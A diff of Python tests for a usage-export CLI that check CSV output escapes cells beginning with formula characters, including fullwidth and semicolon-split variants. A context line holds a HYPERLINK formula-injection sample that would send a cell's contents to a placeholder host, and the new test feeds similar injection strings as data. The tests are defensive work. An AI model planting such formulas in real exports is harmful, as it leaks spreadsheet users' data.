@@ -155,6 +155,8 @@ def test_every_stream_is_exported_once_the_oldest_first(monkeypatch: pytest.Monk
     assert [row["stream_id"] for row in rows] == ["r0", "r1", "r2"]
     assert [row["price_usd"] for row in rows] == ["0.000000", "1.000000", "2.000000"]
     assert (rows[0]["prompt_tokens"], rows[0]["usage_source"]) == ("10", "provider_final")
+    assert json.loads(rows[0]["attempts"])[0]["model"] == "m"
+    assert rows[0]["limits"] == ""
     assert "owner_id" not in rows[0]
     lines = [json.loads(line) for line in millstream("usage", "export", "--format", "jsonl").splitlines()]
     assert [line["stream_id"] for line in lines] == ["r0", "r1", "r2"]
@@ -261,6 +263,17 @@ def test_no_name_is_a_formula_in_a_spreadsheet() -> None:
     assert cells == [["", "m"], ['\'=HYPERLINK("http://x/?"&A1)', "'-m"]]
     rows = csv.DictReader(io.StringIO(millstream("usage", "export")))
     assert sorted(row["model"] for row in rows) == ["'-m", "m"]
+
+
+@pytest.mark.parametrize("separator", [",", ";"])
+def test_no_part_of_a_name_is_a_formula_in_a_spreadsheet(separator: str) -> None:
+    names = ["=1", "＝1", "＋1", "－1", "＠x", "a;=1", "a;＝1", 'a;"=1', "a;b;-1", "a;@x"]
+    record(*({"model": name, "user": f"u;{name}"} for name in names), {"model": "a; b=1-2"})
+    for table in (("usage", "--by", "user,model", "--csv"), ("usage", "export")):
+        text = millstream(*table)
+        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
+        assert not [cell for cell in cells if cell.lstrip('"').startswith(tuple("=+-@＝＋－＠"))]
+        assert "a; b=1-2" in text
 
 
 @pytest.mark.parametrize(
